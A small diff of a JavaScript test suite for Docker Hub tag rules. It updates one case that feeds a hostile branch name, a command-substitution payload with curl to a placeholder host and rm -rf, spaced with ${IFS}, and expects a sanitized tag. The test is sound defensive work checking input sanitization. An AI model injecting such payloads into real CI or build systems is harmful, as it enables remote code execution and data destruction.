@@ -182,9 +182,10 @@ describe('Docker Hub rules', () => {
     },
     {
       name: 'a hostile branch name becomes a harmless tag',
-      event: branchPush('$(curl evil)/`rm -rf`;x'),
+      // Git refuses spaces in ref names, so a shell payload reaches us with ${IFS} instead.
+      event: branchPush('$(curl${IFS}evil)/`rm${IFS}-rf`;x'),
       config: repo({ preset: 'none', rules: [rule({ sourceType: 'branch', source: '/.*/', tag: '{sourceref}' })] }),
-      builds: [['curl-evil-rm--rf-x']],
+      builds: [['curl-IFS-evil-rm-IFS--rf-x']],
     },
     {
       name: 'a 300-character branch name is cut to a 128-character tag',
